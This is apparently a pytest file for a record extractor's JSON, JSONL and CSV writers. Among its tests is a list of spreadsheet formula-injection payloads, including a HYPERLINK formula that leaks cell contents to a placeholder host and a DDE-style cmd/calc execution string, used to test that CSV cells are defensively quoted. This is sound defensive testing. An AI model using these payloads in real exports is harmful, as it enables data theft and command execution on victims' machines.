"""Output formats: one JSON array, and CSV rows whose scalar cells read back to the record's
values (one header for every record, error rows included; spans only when asked)."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from clsx.formats import JOIN, Writer, columns, flatten, read_csv, write_all


def _scalars(value: Any, path: str = "") -> dict[str, Any]:
    """Every scalar leaf of a record that no list holds, by its CSV column name."""
    if isinstance(value, dict):
        out: dict[str, Any] = {}
        for k, v in value.items():
            out.update(_scalars(v, f"{path}_{k}" if path else k))
        return out
    if isinstance(value, list):
        return {}
    return {path: value}


@pytest.fixture(scope="module")
def sample_records(records: dict[str, dict[str, Any]]) -> list[dict[str, Any]]:
    error = {"schema_version": "1", "source": {"path": "scan.pdf"}, "error": {"type": "no_text", "message": "the PDF has no text layer"}}
    return [*records.values(), error]


@pytest.mark.parametrize("spans", [False, True])
def test_csv_round_trips_every_scalar(sample_records: list[dict[str, Any]], spans: bool) -> None:
    buf = io.StringIO(newline="")
    write_all(sample_records, buf, "csv", spans=spans)
    rows = read_csv(io.StringIO(buf.getvalue(), newline=""), spans=spans)
    assert len(rows) == len(sample_records)
    checked = 0
    for rec, row in zip(sample_records, rows):
        for name, value in _scalars(rec).items():
            if "_span_" in name and not spans:
                assert name not in row
                continue
            if value is None and name not in row:  # a null object: all its cells empty
                assert all(row[c] is None for c in row if c.startswith(f"{name}_")), name
                continue
            assert row[name] == value, name
            checked += 1
    assert checked > 500


def test_csv_joins_list_items_with_a_bar(records: dict[str, dict[str, Any]]) -> None:
    rec = records["seed-coevrons-2018"]
    flat = flatten(rec, columns())
    assert flat["signatories_name"] == JOIN.join(s["name"] for s in rec["signatories"])
    assert flat["axes_transversal"] == "false | false | false | false | true"
    assert flat["partners_name"] is None  # an empty list is an empty cell
    assert flat["warnings"] == JOIN.join(rec["warnings"])


def test_csv_header_is_the_same_for_every_record_and_leaves_spans_out() -> None:
    names = [c.name for c in columns()]
    assert names[:4] == ["schema_version", "doc_id", "source_path", "source_sha256"]
    assert {"territory_name", "signature_date", "period_duration_years", "axes_label", "error_type", "error_message"} <= set(names)
    assert not [n for n in names if "span" in n]
    assert "text" not in names
    with_spans = [c.name for c in columns(spans=True)]
    assert {"territory_span_start", "territory_span_text", "period_duration_span_end", "axes_span_text"} <= set(with_spans)


def test_csv_is_rfc4180_with_quoted_newlines() -> None:
    rec = {"schema_version": "1", "source": {"path": 'a "b", c.txt'}, "error": {"type": "x", "message": "line 1\nline 2"}}
    buf = io.StringIO(newline="")
    write_all([rec], buf, "csv")
    assert buf.getvalue().count("\r\n") == 2
    (row,) = list(csv.DictReader(io.StringIO(buf.getvalue(), newline="")))
    assert (row["source_path"], row["error_message"], row["doc_id"]) == ('a "b", c.txt', "line 1\nline 2", "")


def test_json_is_one_array(sample_records: list[dict[str, Any]]) -> None:
    buf = io.StringIO()
    write_all(sample_records[:3], buf, "json")
    assert json.loads(buf.getvalue()) == sample_records[:3]
    empty = io.StringIO()
    write_all([], empty, "json")
    assert json.loads(empty.getvalue()) == []


def test_jsonl_is_one_line_per_record(sample_records: list[dict[str, Any]]) -> None:
    buf = io.StringIO()
    write_all(sample_records, buf)
    assert [json.loads(x) for x in buf.getvalue().splitlines()] == sample_records


def test_unknown_format_is_refused() -> None:
    with pytest.raises(ValueError):
        Writer(io.StringIO(), "xml")  # type: ignore[arg-type]


# A cell that a spreadsheet would run, each as a document could hold it.
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ici\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+33 1 23 45 67 89", "-2+3", "\t=1+1", "\r=1+1", "'=1+1", "'", "'déjà cité'"]


def _injected(value: str) -> dict[str, Any]:
    return {
        "schema_version": "1", "doc_id": "0" * 16,
        "source": {"path": value, "sha256": "0" * 64, "chars": 10, "encoding": "utf-8"},
        "title": value, "territory": None, "region": value, "cls_number": 2,
        "signature": {}, "period": {}, "signatories": [{"name": value, "span": {"start": 0, "end": 1, "text": "x"}}],
        "partners": [], "axes": [], "axes_announced": None, "actions_count": None, "coordinator": None, "funding": [],
        "warnings": [value, "second"], "extractor": {"version": "0.1.0", "model": "m"},
    }


def _csv(records: list[dict[str, Any]], **options: Any) -> str:
    buf = io.StringIO(newline="")
    write_all(records, buf, "csv", **options)
    return buf.getvalue()


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_written_with_a_quote_in_front(value: str) -> None:
    rows = list(csv.DictReader(io.StringIO(_csv([_injected(value)]), newline="")))
    for name in ("source_path", "title", "region", "signatories_name"):
        assert rows[0][name] == "'" + value, name
    assert rows[0]["warnings"] == "'" + value + JOIN + "second"
    assert rows[0]["cls_number"] == "2"  # numbers stay numbers


@pytest.mark.parametrize("value", FORMULAS)
def test_a_guarded_cell_reads_back_as_its_value(value: str) -> None:
    (row,) = read_csv(io.StringIO(_csv([_injected(value)]), newline=""))
    assert (row["source_path"], row["title"], row["region"], row["signatories_name"]) == (value,) * 4
    assert row["warnings"] == value + JOIN + "second" and row["cls_number"] == 2


def test_no_csv_safe_writes_the_cells_as_they_are() -> None:
    (raw,) = csv.DictReader(io.StringIO(_csv([_injected("=1+1")], csv_safe=False), newline=""))
    assert raw["title"] == "=1+1"
    (row,) = read_csv(io.StringIO(_csv([_injected("'=1+1")], csv_safe=False), newline=""), csv_safe=False)
    assert row["title"] == "'=1+1"


def test_ordinary_cells_are_untouched(sample_records: list[dict[str, Any]]) -> None:
    assert _csv(sample_records) == _csv(sample_records, csv_safe=False)
